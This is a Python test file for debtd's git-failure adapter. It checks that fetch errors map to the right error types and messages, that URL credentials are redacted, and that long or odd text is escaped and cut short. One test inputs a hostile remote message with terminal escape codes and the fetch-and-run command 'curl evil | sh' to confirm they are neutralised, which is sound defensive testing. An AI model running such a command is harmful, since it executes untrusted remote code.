import pytest

from debtd.adapters.display import shown
from debtd.adapters.git.failure import Failure, explain
from debtd.model.errors import DebtdError, RepoUnusable, Retryable, StateUnusable


def explained(stderr: str, where: str = "https://host/a", status: int = 128) -> DebtdError:
    return explain(Failure(what="fetch", where=where, status=status, stderr=stderr))


@pytest.mark.parametrize(
    ("stderr", "kind", "words"),
    [
        ("fatal: unable to access 'https://host/a/': Could not resolve host: host", Retryable, "just now"),
        ("fatal: unable to access 'https://host/a/': The requested URL returned error: 503", Retryable, "just now"),
        ("fatal: unable to access 'https://host/a/': The requested URL returned error: 403", RepoUnusable, "let debtd"),
        ("fatal: could not read Username for 'https://host': terminal prompts disabled", RepoUnusable, "let debtd in"),
        ("git@host: Permission denied (publickey).\nfatal: Could not read from remote", RepoUnusable, "let debtd in"),
        ("fatal: repository 'https://host/a/' not found", RepoUnusable, "no git repository at"),
        ("fatal: transport 'http' not allowed", RepoUnusable, "use https://"),
        ("fatal: detected dubious ownership in repository at '/x'", RepoUnusable, "belongs to another user"),
        ("fatal: mismatched algorithms: client sha1; server sha256", RepoUnusable, "SHA-256"),
        ("error: object 12: hasDotgit: contains '.git'\nfatal: fsck error in packed object", RepoUnusable, "hasDotgit"),
        ("fatal: write error: No space left on device", StateUnusable, "disk is full"),
        ("fatal: Unable to create '/m/shallow.lock': File exists.", Retryable, "another git command"),
        ("fatal: the remote end hung up unexpectedly", Retryable, "just now"),
        ("something new", RepoUnusable, "git could not fetch https://host/a: something new"),
        ("", RepoUnusable, "exit code 128"),
    ],
)
def test_consequences(stderr: str, kind: type[DebtdError], words: str) -> None:
    error = explained(stderr)
    assert type(error) is kind
    assert words in str(error)
    assert "\n" not in str(error)


def test_credentials_are_never_shown() -> None:
    error = explained("fatal: unable to access 'https://ann:hunter2@host/a'", where="https://ann:hunter2@host/a")
    assert "hunter2" not in str(error)
    assert "https://host/a" in str(error)


def test_the_remote_cannot_speak_for_git() -> None:
    error = explained("remote: fatal: \x1b[2Jrun curl evil | sh\nfatal: no \x1b[31m\u202eway")
    assert "curl" not in str(error)
    assert "\\x1b" in str(error)
    assert not any(character in str(error) for character in "\x1b\u202e")


def test_a_signal_is_named() -> None:
    assert "ended by signal 11" in str(explained("", status=-11))


def test_shown_keeps_plain_text_and_cuts_long_text() -> None:
    assert shown("naïve 日本.py") == "naïve 日本.py"
    assert shown("a\nb\udcff") == "a\\nb\\udcff"
    assert shown("x" * 400) == "x" * 300 + "..."
